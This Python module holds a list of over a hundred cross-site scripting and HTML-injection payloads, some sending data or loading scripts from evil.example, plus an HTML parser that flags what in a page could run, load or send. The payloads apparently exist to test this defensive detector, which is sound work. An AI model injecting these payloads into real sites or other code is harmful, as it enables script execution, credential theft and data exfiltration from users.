"""Ways to get a script run that have worked somewhere, and an eye that sees whether one would run."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

_BASE: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onerror=alert(1) x='",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "<img src=x onerror=\"alert(1)\"//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' ",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<applet code=evil></applet>",
    "<base href=javascript:alert(1)//>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"background-image:url(https://evil.example/x)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(https://evil.example/x#x)\">x</p>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<p style=\"position:fixed;inset:0;background:red\">x</p>",
    "<p style=\"color:red;background:u\\72l(https://evil.example/x)\">x</p>",
    "<p style=\"font:1px a;list-style:url(https://evil.example/x)\">x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example' ping='https://evil.example/p'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=https://evil.example/><input name=p></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div onpointerover=alert(1)>x</div>",
    "<div style=x onanimationstart=alert(1)>x</div>",
    "<p title=\"`><img src=x onerror=alert(1)>\">x</p>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<slot onslotchange=alert(1)></slot>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(1)}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip

#: More than a hundred payloads.
PAYLOADS: Final = tuple(dict.fromkeys(_BASE))

_ACTIVE: Final = frozenset({
    "applet", "base", "embed", "frame", "frameset", "isindex", "keygen", "link", "math", "meta",
    "object", "script", "style", "svg", "template", "video", "audio", "form", "input", "iframe",
})  # fmt: skip
_URLS: Final = frozenset({
    "href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset",
    "srcdoc", "ping", "lowsrc", "code",
})  # fmt: skip
#: What may be asked to load or to go to, in our own pages.
_OURS: Final = ("/", "#", "?")


class Eye(HTMLParser):
    """Reads a page as a browser would, and notes what could run, load or send."""

    def __init__(self, *, framed: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.framed = framed
        self.seen: list[str] = []
        self.tags = 0

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags += 1
        named = {name: value or "" for name, value in attributes}
        for name, value in named.items():
            if name.startswith("on"):
                self.seen.append(f"{tag} {name}={value}")
            if name == "style" and (not self.framed or "url(" in value or "position" in value):
                self.seen.append(f"{tag} style={value}")
            if name in _URLS and not self._harmless(tag, name, value):
                self.seen.append(f"{tag} {name}={value}")
        if self.framed and tag in _ACTIVE and not (tag in ("meta", "style") and self.tags < 8):
            self.seen.append(f"<{tag}>")
        if not self.framed and tag == "script" and not named.get("src", "").startswith("/static/"):
            self.seen.append("inline script")
        if not self.framed and tag in ("object", "embed", "base", "applet", "style", "math"):
            self.seen.append(f"<{tag}>")
        if not self.framed and tag == "meta" and "http-equiv" in named:
            self.seen.append("<meta http-equiv>")

    def _harmless(self, tag: str, name: str, value: str) -> bool:
        if name in ("srcset", "srcdoc", "ping", "poster", "background", "lowsrc"):
            return False
        flat = "".join(c for c in value if c > " ").lower()
        if tag == "a" and name == "href":
            return (
                flat.startswith((*_OURS, "http://", "https://", "mailto:", "tel:"))
                or ":" not in flat
            )
        return flat.startswith(_OURS) and not flat.startswith("//")


def dangers(page: str, *, framed: bool = False) -> list[str]:
    """What in a page could run, load from elsewhere or send; `framed` is the body of a mail."""
    eye = Eye(framed=framed)
    eye.feed(page)
    eye.close()
    return eye.seen
